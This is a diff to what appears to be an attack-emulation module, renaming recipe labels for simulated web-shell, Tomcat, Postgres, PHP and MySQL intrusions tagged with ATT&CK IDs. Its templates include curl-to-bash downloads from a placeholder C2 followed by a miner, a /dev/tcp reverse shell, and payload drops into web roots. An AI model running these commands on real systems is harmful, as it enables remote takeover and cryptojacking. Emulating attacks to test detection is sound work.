@@ -3,7 +3,7 @@
 from longtail.fleet.attack import Attack
 
 RECIPES = (
-    Attack("web shell", ("iis",), ("T1505.003", "T1059.003", "T1082"), "a shell in a page: w3wp starts cmd", r"""
+    Attack("web-shell", ("iis",), ("T1505.003", "T1059.003", "T1082"), "a shell in a page: w3wp starts cmd", r"""
 cmd: whoami
 or
 cmd: cd /d "{web}" & whoami & echo [S] & cd & echo [E]
@@ -36,7 +36,7 @@ cmd: curl -o {webdrop}\{tool}.aspx {url}
 or
 nothing
 """),
-    Attack("web shell, quiet", ("iis",), ("T1505.003",), "a single program dropped beside the site", r"""
+    Attack("web-shell-quiet", ("iis",), ("T1505.003",), "a single program dropped beside the site", r"""
 {web}\bin\{tool}.exe
 or
 {webdrop}\{tool}.exe | @ {id}
@@ -49,7 +49,7 @@ nothing
 or
 cmd: appcmd list apppool /config
 """),
-    Attack("tomcat under Windows", ("tomcat",), ("T1190", "T1059.003", "T1105"), "a manager upload runs commands", r"""
+    Attack("tomcat-windows", ("tomcat",), ("T1190", "T1059.003", "T1105"), "a manager upload runs commands", r"""
 cmd: whoami
 or
 cmd: hostname & whoami
@@ -62,7 +62,7 @@ nothing
 or
 C:\Windows\Temp\{tool}.exe
 """),
-    Attack("shell from java", ("tomcat-linux",), ("T1190", "T1059.004", "T1496", "T1053.003"), "curl into bash, then a miner", r"""
+    Attack("java-shell", ("tomcat-linux",), ("T1190", "T1059.004", "T1496", "T1053.003"), "curl into bash, then a miner", r"""
 sh: curl -fsSL http://{c2}/{rnd}.sh | bash
   /usr/bin/chmod | chmod +x {nixdrop}/{nixtool}
   {nixdrop}/{nixtool}
@@ -82,7 +82,7 @@ nothing
 or
 sh: id; uname -a
 """, (1, 120)),
-    Attack("postgres program", ("postgres",), ("T1190", "T1059.004", "T1105"), "COPY … FROM PROGRAM", r"""
+    Attack("postgres-program", ("postgres",), ("T1190", "T1059.004", "T1105"), "COPY … FROM PROGRAM", r"""
 sh: id
 or
 sh: whoami
@@ -102,7 +102,7 @@ nothing
 or
 sh: pkill -f kdevtmpfsi; crontab -r
 """, (1, 90)),
-    Attack("php shell", ("web-linux",), ("T1505.003", "T1059.004"), "commands through an uploaded page", r"""
+    Attack("php-shell", ("web-linux",), ("T1505.003", "T1059.004"), "commands through an uploaded page", r"""
 sh: id
 or
 sh: uname -a; id; pwd
@@ -127,7 +127,7 @@ sh: bash -i >& /dev/tcp/{wan}/{port} 0>&1
 or
 sh: curl {c2}/{rnd}.txt -o {web}/{rnd}.php
 """),
-    Attack("mysql library", ("mysql",), ("T1190", "T1059.004"), "a user-defined function runs commands", r"""
+    Attack("mysql-library", ("mysql",), ("T1190", "T1059.004"), "a user-defined function runs commands", r"""
 sh: id
 or
 sh: uname -a
